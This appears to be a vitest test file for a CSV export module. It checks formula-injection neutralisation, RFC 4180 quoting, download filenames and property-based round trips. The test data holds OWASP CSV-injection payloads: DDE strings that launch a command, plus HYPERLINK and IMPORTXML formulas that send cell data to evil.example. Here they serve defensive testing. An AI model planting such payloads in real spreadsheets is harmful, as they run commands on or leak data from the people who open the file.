import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvContentDisposition, neutralizeCell, toCsv, toCsvRecords, UTF8_BOM } from "./csv";

describe("neutralizeCell", () => {
  it.each(["=HYPERLINK(\"http://x\")", "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"])("neutralises %j", (text) => {
    expect(neutralizeCell(text)).toBe(`'${text}`);
  });
  it("leaves ordinary text, numbers and empty values alone", () => {
    expect(neutralizeCell("SQLAlchemy")).toBe("SQLAlchemy");
    expect(neutralizeCell(-3)).toBe("-3");
    expect(neutralizeCell(null)).toBe("");
    expect(neutralizeCell(new Date("2026-01-02T03:04:05Z"))).toBe("2026-01-02T03:04:05.000Z");
  });
});

// OWASP's CSV injection payloads, and the same hidden after a separator, where a spreadsheet that splits on
// another character (Excel with ";") would start a new cell.
const OWASP_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1&A2,"Error: click here")',
  "=IMPORTXML(CONCAT(\"http://evil.example?v=\", CONCATENATE(A2:E2)), \"//a\")",
  '"=1+1"',
  "\t=1+1",
  "\r=1+1",
  "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
];
const HIDDEN = OWASP_PAYLOADS.flatMap((payload) => [payload, `thanks;${payload}`, `a,${payload}`, `x\n${payload}`, `ok;"${payload}`, `1;-1`]);
const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

describe("the formula guard", () => {
  it("leaves no cell that a spreadsheet would evaluate, read with ',' or, as Excel does in many locales, with ';'", () => {
    const csv = toCsv(["comment", "n"], HIDDEN.map((text) => [text, 1]));
    const byComma = parse(csv) as string[][];
    expect(byComma.slice(1).map((row) => row[0])).toEqual(HIDDEN.map(neutralizeCell));
    // Excel splitting on ";" reads quotes in the middle of a field literally: relax_quotes does the same.
    const bySemicolon = parse(csv, { delimiter: ";", relax_quotes: true, relax_column_count: true }) as string[][];
    const cells = [...byComma.flat(), ...bySemicolon.flat()];
    expect(cells.filter(isFormula)).toEqual([]);
    expect(bySemicolon.length).toBe(byComma.length);
  });

  it("guards text after every separator, and quotes any cell holding a separator, quote or line break", () => {
    expect(neutralizeCell("thanks;=1+1")).toBe("thanks;'=1+1");
    expect(toCsv(["c"], [["thanks;=1+1"], ["a;b"], ["plain"]])).toBe('c\r\n"thanks;\'=1+1"\r\n"a;b"\r\nplain\r\n');
  });
});

describe("toCsv", () => {
  it("quotes per RFC 4180 with CRLF line ends and round-trips hostile text", () => {
    const hostile = ['"quoted, with comma"', "line\nbreak", "emoji 🐍", "עברית right-to-left"];
    const csv = toCsv(["a", "b"], hostile.map((text) => [text, 1]));
    expect(csv.endsWith("\r\n")).toBe(true);
    expect(csv.split("\r\n")[0]).toBe("a,b");
    const rows = parse(csv, { columns: true }) as { a: string; b: string }[];
    expect(rows.map((row) => row.a)).toEqual(hostile);
  });
  it("quotes a lone line feed or carriage return, so a parser splitting on any line break keeps the row whole", () => {
    const csv = toCsv(["a", "b"], [["two\nlines", "cr\ronly"]]);
    expect(csv).toBe('a,b\r\n"two\nlines","cr\ronly"\r\n');
    expect(parse(csv, { record_delimiter: ["\r\n", "\n", "\r"] })).toEqual([["a", "b"], ["two\nlines", "cr\ronly"]]);
  });
  it("adds a byte-order mark only when asked", () => {
    expect(toCsv(["a"], []).startsWith(UTF8_BOM)).toBe(false);
    expect(toCsv(["a"], [], { bom: true }).startsWith(UTF8_BOM)).toBe(true);
  });
});

describe("csvContentDisposition", () => {
  it("names the export, round and date in ASCII", () => {
    expect(csvContentDisposition(["responses", "openstack-2026", "wide"], new Date("2026-12-01T10:00:00Z"))).toBe(
      'attachment; filename="responses_openstack-2026_wide_2026-12-01.csv"',
    );
    expect(csvContentDisposition(["Zürich \"round\""], new Date("2026-12-01T10:00:00Z"))).toBe(
      'attachment; filename="Zurich-round_2026-12-01.csv"',
    );
  });
});

describe("toCsvRecords", () => {
  const cell = fc.oneof(
    fc.string({ unit: fc.constantFrom("a", "é", "🐍", ",", ";", '"', "\r", "\n", "=", "+", "-", "@", "\t", " ", "'", "|") }),
    fc.string(),
    fc.integer(),
    fc.boolean(),
    fc.constant(null),
    fc.date({ noInvalidDate: true }),
  );
  it("writes exactly what csv-stringify writes with the same options, and parses back to the neutralised cells", () => {
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const fast = toCsvRecords(rows);
        // toCsv is csv-stringify; drop its header line to compare the records alone.
        const reference = toCsv(["h"], rows).slice("h\r\n".length);
        expect(fast).toBe(reference);
        const back = parse(fast, { record_delimiter: "\r\n", relax_column_count: true }) as string[][];
        expect(back).toEqual(rows.map((row) => row.map(neutralizeCell)));
      }),
      { numRuns: 500 },
    );
  });
  it("writes nothing for no rows", () => {
    expect(toCsvRecords([])).toBe("");
  });
});
